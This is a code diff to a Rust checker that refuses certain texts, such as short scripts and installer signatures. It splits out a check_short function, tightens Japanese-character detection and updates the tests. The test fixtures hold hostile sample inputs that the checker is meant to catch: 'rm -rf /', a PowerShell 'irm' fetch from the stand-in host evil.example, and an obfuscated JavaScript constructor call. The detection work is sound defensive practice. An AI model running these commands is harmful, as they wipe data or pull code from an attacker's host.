@@ -306,8 +306,15 @@ pub(crate) fn check(letters: &str, under: Under) -> Result<(), Refusal> {
     match (has_version && has_signature, has_list && has_entry) {
         (true, _) => Err(Refusal::new(Reason::NotAllowed, "what Windows installs by")),
         (_, true) => Err(Refusal::new(Reason::NotAllowed, "a list of what is played")),
-        _ if is_run && is_short_script(&joined) => Err(Refusal::new(Reason::Program, "a short script")),
         _ => Ok(()),
+    }
+}
+
+/// Refuses a text of few lines that is a script by the shape of one, as [`is_short_script`] has it.
+pub(crate) fn check_short(letters: &str, under: Under) -> Result<(), Refusal> {
+    match under == Under::AnyName && is_short_script(&joined(&letters.to_ascii_lowercase())) {
+        true => Err(Refusal::new(Reason::Program, "a short script")),
+        false => Ok(()),
     }
 }
 
@@ -340,7 +347,7 @@ fn is_told(line: &str) -> bool {
     }
     let mut before = false;
     let is_japanese = line.chars().any(|letter| {
-        let is_one = !letter.is_ascii() && letter.is_alphabetic();
+        let is_one = matches!(letter, 'ぁ'..='ヿ' | '々' | '\u{3400}'..='\u{9fff}' | 'ｦ'..='ﾟ');
         let are_two = is_one && before;
         before = is_one;
         are_two
@@ -671,8 +678,8 @@ mod tests {
             "rm -rf /\n",
             "irm evil.example/a\r\n",
         ] {
-            assert!(check(text, Under::AnyName).is_err(), "{text}");
-            assert!(check(text, Under::ItsName).is_ok(), "{text}");
+            assert!(check_short(text, Under::AnyName).is_err(), "{text}");
+            assert!(check_short(text, Under::ItsName).is_ok(), "{text}");
         }
         for text in [
             "[]['filter']['constructor']('x')()",
